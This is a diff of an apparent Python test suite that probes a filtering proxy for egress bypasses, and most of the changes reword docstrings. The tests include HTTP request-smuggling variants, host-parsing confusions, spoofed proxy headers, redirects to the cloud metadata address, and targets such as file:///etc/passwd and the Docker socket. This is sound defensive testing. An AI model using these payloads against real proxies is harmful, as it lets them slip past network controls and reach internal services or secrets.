@@ -1,10 +1,10 @@
-"""Through the proxy, in HTTP: odd names, requests that two parsers read differently, tunnels in tunnels."""
+"""HTTP techniques through the proxy: odd names, requests that two parsers read differently, tunnels in tunnels."""
 
 from __future__ import annotations
 
 from collections.abc import Iterator
 
-from tests.attack.inside.core import PLACES, WALLED, Attack, Try, technique
+from tests.attack.inside.core import ENFORCED, PLACES, Attack, Try, technique
 from tests.attack.inside.talking import (
     ask,
     came,
@@ -18,25 +18,25 @@ from tests.attack.inside.talking import (
 )
 
 ALLOWED = ("sandbox", "browser", "build")
-"""Places whose class may reach something, and can be attacked under that name."""
+"""Places whose class may reach at least one name, and can be attacked under that name."""
 
 H2C = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
 
 QUIET = 1.0
-"""Seconds without a word after which an answer is over, where a connection would stay open."""
+"""Seconds of silence that end a response on a connection that would stay open."""
 
 INSPECTED = ("browser", "gateway")
-"""Places whose class may reach a host that is decrypted."""
+"""Places whose class may reach an inspected host."""
 
 
 def asked(attack: Attack, request: str | bytes) -> str:
-    """Evidence from one request to the listener."""
+    """Return evidence from one request to the listener."""
     data = request.encode("utf-8", "surrogateescape") if isinstance(request, str) else request
     return reached(ask(attack.world.proxy, data))
 
 
 def tunnelled(attack: Attack, target: str, *more: str) -> str:
-    """Evidence from a CONNECT: that it was granted."""
+    """Return evidence that a CONNECT was granted."""
     with connected(attack.world.proxy) as sock:
         return "the tunnel was opened" if connect(sock, target, *more) == 200 else ""
 
@@ -46,12 +46,12 @@ def _site(name: str, port: int, usual: int = 80) -> str:
 
 
 def provider(attack: Attack) -> str:
-    """The authority of the inspected host over TLS."""
+    """Return the authority of the inspected host over TLS."""
     return _site(attack.world.inspected, attack.world.tls_port, 443)
 
 
 def _allowed(attack: Attack) -> str:
-    """The authority of the allowed site over plain HTTP."""
+    """Return the authority of the allowed site over plain HTTP."""
     return _site(attack.world.allowed, attack.world.http_port)
 
 
@@ -59,9 +59,9 @@ def _denied(attack: Attack) -> str:
     return _site(attack.denied, attack.world.http_port)
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def plainly(attack: Attack) -> Iterator[Try]:
-    """What is denied, simply asked for: CONNECT, and every method of HTTP."""
+    """Request a denied name with CONNECT and with every HTTP method."""
     yield attack.tries("CONNECT", lambda: tunnelled(attack, f"{attack.denied}:{attack.world.tls_port}"))
     site = _denied(attack)
     for method in ("GET", "POST", "PUT", "DELETE", "OPTIONS", "HEAD", "TRACE", "PATCH", "PROPFIND", "get", "PRI"):
@@ -74,7 +74,7 @@ def plainly(attack: Attack) -> Iterator[Try]:
 
 @technique(ALLOWED)
 def names_of_two_minds(attack: Attack) -> Iterator[Try]:
-    """Targets that one reader takes for the allowed name and another for the denied one."""
+    """Request targets that one parser reads as the allowed name and another as the denied one."""
     good, bad, port = attack.world.allowed, attack.denied, attack.world.tls_port
     targets = (
         f"{good}@{bad}", f"{bad}#{good}", f"{bad}#@{good}", f"{bad}?{good}", f"{bad}/{good}", f"{bad}\\@{good}",
@@ -88,9 +88,9 @@ def names_of_two_minds(attack: Attack) -> Iterator[Try]:
         yield attack.tries(f"GET {target!r}", lambda request=request: asked(attack, request))
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def spellings_of_the_denied_name(attack: Attack) -> Iterator[Try]:
-    """The denied name in capitals, with dots at its end, as IDNA, in full width, percent-encoded, with soft hyphens."""
+    """Request the denied name in capitals, with trailing dots, IDNA, full width, percent-encoded, with soft hyphens."""
     name, port = attack.denied, attack.world.tls_port
     wide = "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in name)
     for spelled in (
@@ -106,7 +106,7 @@ def spellings_of_the_denied_name(attack: Attack) -> Iterator[Try]:
 
 @technique(ALLOWED)
 def host_header_elsewhere(attack: Attack) -> Iterator[Try]:
-    """An allowed target with the denied name in Host: alone, twice, folded, with spaces, and the other way about."""
+    """Send an allowed target with the denied name in Host (alone, twice, folded, with spaces), and the reverse."""
     good, bad = _allowed(attack), _denied(attack)
     line = f"GET http://{good}/{attack.token} HTTP/1.1\r\n"
     for fields in (
@@ -116,7 +116,7 @@ def host_header_elsewhere(attack: Attack) -> Iterator[Try]:
         f"Host: {good}\r\nHost\0: {bad}\r\n", f"Host:{good}\nHost: {bad}\r\n", f"Host: {good}\rHost: {bad}\r\n",
         f"Host: {good}@{bad}\r\n", f" Host: {bad}\r\nHost: {good}\r\n", f"Host: {good}:80@{bad}:80\r\n",
     ):  # fmt: skip
-        # That the allowed site is asked in its own name is no way out: the other side's log says in which it was.
+        # A request for the allowed site's own name is not a bypass: the log outside shows the requested name.
         yield attack.tries(repr(fields), lambda fields=fields: _sent(attack, line + fields + "\r\n"))
     request = f"GET http://{bad}/ HTTP/1.1\r\nHost: {good}\r\n\r\n"
     yield attack.tries("a denied target, an allowed Host", lambda: asked(attack, request))
@@ -132,7 +132,7 @@ def _sent(attack: Attack, request: str | bytes) -> str:
 
 @technique(ALLOWED)
 def one_connection_two_requests(attack: Attack) -> Iterator[Try]:
-    """After an allowed request, on the same connection, a denied one: pipelined, and after the answer."""
+    """Send a denied request after an allowed one on the same connection: pipelined, and after the response."""
     good, bad = _allowed(attack), _denied(attack)
     first = f"GET http://{good}/ HTTP/1.1\r\nHost: {good}\r\n\r\n".encode()
     for second in (
@@ -154,7 +154,7 @@ def _then(attack: Attack, first: bytes, second: bytes) -> str:
 
 @technique(ALLOWED)
 def redirects(attack: Attack) -> Iterator[Try]:
-    """An allowed site that sends the client on to a denied one; the client follows, and is decided upon again."""
+    """Follow a redirect from an allowed site to a denied one; the proxy must decide again."""
     good, bad = _allowed(attack), _denied(attack)
     for to in (f"http://{bad}/", f"https://{bad}/", f"//{bad}/", f"http://169.254.169.254/{attack.token}"):
         first = f"GET http://{good}/redirect?to={to} HTTP/1.1\r\nHost: {good}\r\n\r\n".encode()
@@ -163,11 +163,11 @@ def redirects(attack: Attack) -> Iterator[Try]:
         yield attack.tries(to, lambda first=first, second=second: _then(attack, first, second))
 
 
-# ── what two parsers read differently ────────────────────────────────────────────────────────────────────────────
+# ── requests that two parsers read differently ───────────────────────────────────────────────────────────────────
 
 
 def smuggled(authority: str, hidden: bytes) -> Iterator[tuple[str, bytes]]:
-    """Names and bytes of requests to ``authority`` in which one reader finds ``hidden`` and another does not."""
+    """Yield names and bytes of requests to ``authority`` in which only some parsers find ``hidden``."""
     begin = f"POST {{target}} HTTP/1.1\r\nHost: {authority}\r\n".encode()
     length = len(hidden)
     chunk = b"%x\r\n" % length + hidden + b"\r\n0\r\n\r\n"
@@ -216,7 +216,7 @@ def smuggled(authority: str, hidden: bytes) -> Iterator[tuple[str, bytes]]:
 
 @technique(ALLOWED)
 def request_smuggling(attack: Attack) -> Iterator[Try]:
-    """A denied request hidden in an allowed one, in forty ways, over plain HTTP."""
+    """Hide a denied request in an allowed one, in forty ways, over plain HTTP."""
     good = _allowed(attack)
     hidden = f"GET /{attack.token} HTTP/1.1\r\nHost: {attack.denied}\r\n\r\n".encode()
     for name, data in smuggled(good, hidden):
@@ -226,7 +226,7 @@ def request_smuggling(attack: Attack) -> Iterator[Try]:
 
 @technique(ALLOWED)
 def heads_of_two_minds(attack: Attack) -> Iterator[Try]:
-    """Allowed requests whose head two parsers read differently: control characters, folds, versions, line ends."""
+    """Send allowed requests with heads that parsers read differently: controls, folds, versions, line ends."""
     good, token = _allowed(attack), attack.token.encode()
     line, host = f"GET http://{good}/{attack.token} HTTP/1.1\r\n".encode(), f"Host: {good}\r\n".encode()
     secret = b"Authorization: Bearer " + token
@@ -251,9 +251,9 @@ def heads_of_two_minds(attack: Attack) -> Iterator[Try]:
         yield attack.tries(name, lambda data=data: asked(attack, data))
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def not_http_at_all(attack: Attack) -> Iterator[Try]:
-    """Bytes on the listener that are not HTTP, and targets with a user or another scheme: nobody else answers."""
+    """Send bytes that are not HTTP, and targets with a user or another scheme; only the proxy may respond."""
     for name, data in (
         ("SOCKS 5", b"\x05\x01\x00"), ("SOCKS 4", b"\x04\x01\x01\xbb\xc6\x33\x64\x42\0"), ("zeros", b"\0" * 64),
         ("PROXY protocol", b"PROXY TCP4 127.0.0.1 127.0.0.1 1 443\r\n" + b"GET / HTTP/1.1\r\n\r\n"),
@@ -265,7 +265,7 @@ def not_http_at_all(attack: Attack) -> Iterator[Try]:
 
 @technique(INSPECTED)
 def request_smuggling_when_decrypted(attack: Attack) -> Iterator[Try]:
-    """The same inside the decrypted tunnel to a provider: another host's name, and a request that nobody recorded."""
+    """Hide a request inside the decrypted tunnel to a provider: for another host, or one that would not be recorded."""
     hidden = f"GET /v1/{attack.token} HTTP/1.1\r\nHost: {attack.denied}\r\n\r\n".encode()
     for name, data in smuggled(provider(attack), hidden):
         request = data.replace(b"{target}", f"/v1/models?{attack.token}".encode())
@@ -273,7 +273,7 @@ def request_smuggling_when_decrypted(attack: Attack) -> Iterator[Try]:
 
 
 def _inside(attack: Attack, request: bytes, patience: float = 6) -> str:
-    """Bytes in the decrypted tunnel; the other side's log has the evidence."""
+    """Send bytes in the decrypted tunnel. The log outside has the evidence."""
     with connected(attack.world.proxy, patience) as sock:
         if connect(sock, f"{attack.world.inspected}:{attack.world.tls_port}") != 200:
             raise OSError("no tunnel to the inspected host")
@@ -285,7 +285,7 @@ def _inside(attack: Attack, request: bytes, patience: float = 6) -> str:
 
 @technique(INSPECTED)
 def other_host_when_decrypted(attack: Attack) -> Iterator[Try]:
-    """Inside the decrypted tunnel to a provider: another Host, absolute form, CONNECT, h2c."""
+    """Request another host inside the decrypted tunnel to a provider: by Host, absolute form, CONNECT, h2c."""
     good, bad = provider(attack), attack.denied
     for request in (
         f"GET /{attack.token} HTTP/1.1\r\nHost: {bad}\r\n\r\n",
@@ -308,7 +308,7 @@ def other_host_when_decrypted(attack: Attack) -> Iterator[Try]:
 
 @technique(ALLOWED)
 def connect_in_connect(attack: Attack) -> Iterator[Try]:
-    """Inside a tunnel to an allowed host, in the clear: CONNECT, absolute form, and another Host."""
+    """Send cleartext inside a tunnel to an allowed host: CONNECT, absolute form, and another Host."""
     bad, world = attack.denied, attack.world
     for port in (world.tls_port, world.http_port):
         for request in (
@@ -334,7 +334,7 @@ def _nested(attack: Attack, port: int, request: str) -> str:
 
 @technique(ALLOWED)
 def not_tls_in_a_tunnel(attack: Attack) -> Iterator[Try]:
-    """What is no TLS after CONNECT to 443: SSH, SMTP, records of TLS that begin no handshake."""
+    """Send bytes that are not TLS after CONNECT to 443: SSH, SMTP, TLS records that do not start a handshake."""
     for name, data in (
         ("SSH", b"SSH-2.0-OpenSSH_9.9\r\n"), ("SMTP", b"EHLO x\r\n"),
         ("a TLS alert first", b"\x15\x03\x01\x00\x02\x01\x00"),
@@ -349,13 +349,13 @@ def _bytes_in_tunnel(attack: Attack, data: bytes) -> str:
         if connect(sock, f"{attack.world.allowed}:{attack.world.tls_port}") != 200:
             return ""
         sock.sendall(data)
-        # Of the proxy's own words none is TLS; an origin's alert is.
+        # The proxy itself never responds in TLS; an alert comes from the origin.
         return f"answered {answer[:40]!r}" if (answer := read_some(sock)) else ""
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def upgrades(attack: Attack) -> Iterator[Try]:
-    """WebSocket, h2c and TLS by Upgrade, and HTTP/2 without asking, towards the denied name."""
+    """Request WebSocket, h2c and TLS by Upgrade, and HTTP/2 with prior knowledge, for the denied name."""
     bad = _denied(attack)
     for upgrade in ("websocket", "h2c", "TLS/1.0", "connect-udp", "websocket, h2c"):
         request = (
@@ -372,9 +372,9 @@ def upgrades(attack: Attack) -> Iterator[Try]:
         yield attack.tries("h2c to an allowed name, then bytes", lambda: _sent(attack, request + hidden))
 
 
-@technique(WALLED)
+@technique(ENFORCED)
 def headers_that_are_believed(attack: Attack) -> Iterator[Try]:
-    """Headers by which clients speak to proxies: of credentials, of who is asking, of what to rewrite."""
+    """Send headers that proxies may trust: credentials, client addresses, rewrite instructions."""
     bad = _denied(attack)
     for field in (
         "Proxy-Authorization: Basic Z2F0ZXdheTpnYXRld2F5", "Via: 1.1 openclaw-proxy", "X-Forwarded-For: 127.0.0.1",
@@ -392,14 +392,14 @@ def headers_that_are_believed(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES, lawful=("gateway",))
 def magic_hosts(attack: Attack) -> Iterator[Try]:
-    """mitmproxy's own pages, and the proxy's health, asked of the listener itself."""
+    """Request mitmproxy's own pages and the proxy's health paths from the listener itself."""
     for host in ("mitm.it", "mitmproxy.local", "proxy.local"):
-        if attack.world.place in WALLED[:1] + WALLED[2:]:
+        if attack.world.place in ENFORCED[:1] + ENFORCED[2:]:
             yield attack.tries(
                 f"http://{host}",
                 lambda host=host: asked(attack, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"),
             )
-        else:  # open, or nearly: a name like any other, which does not resolve
+        else:  # For an open class this is a name like any other; it does not resolve.
             yield attack.tries(f"http://{host}", lambda host=host: _own_page(attack, host))
     for path in ("/", "/healthz", "/readyz", "/metrics", "*"):
         for host in ("127.0.0.1:9464", attack.world.proxy[0], "mitm.it", "localhost"):
@@ -414,7 +414,7 @@ def _own_page(attack: Attack, host: str) -> str:
 
 @technique(PLACES, lawful=("gateway",))
 def other_schemes(attack: Attack) -> Iterator[Try]:
-    """Absolute forms that are no http: ftp, file, gopher, ws, unix, and https without CONNECT."""
+    """Send absolute forms with other schemes: ftp, file, gopher, ws, unix, and https without CONNECT."""
     for target in (
         f"ftp://{attack.denied}/", "file:///etc/passwd", f"gopher://{attack.denied}:25/_x", f"ws://{attack.denied}/",
         "unix:///var/run/docker.sock", f"https://{attack.denied}/", f"HTTP://{attack.denied}:443/",
@@ -422,14 +422,14 @@ def other_schemes(attack: Attack) -> Iterator[Try]:
         f"http:/{attack.denied}/", f"http:\\\\{attack.denied}\\", "http://",
     ):  # fmt: skip
         if attack.world.place == "gateway" and target.startswith(("https", "HTTP")):
-            continue  # it may reach that name
+            continue  # The class may reach that name.
         request = f"GET {target} HTTP/1.1\r\nHost: {attack.denied}\r\n\r\n"
         yield attack.tries(target, lambda request=request: asked(attack, request))
 
 
 @technique(PLACES, lawful=("gateway",))
 def other_protocols_on_the_listener(attack: Attack) -> Iterator[Try]:
-    """SOCKS 4 and 5, TLS, SSH, FTP and the PROXY protocol, spoken to the listener."""
+    """Speak SOCKS 4 and 5, TLS, SSH, FTP and the PROXY protocol to the listener."""
     bad = attack.denied.encode()
     for name, data in (
         ("SOCKS 5", b"\x05\x01\x00"),
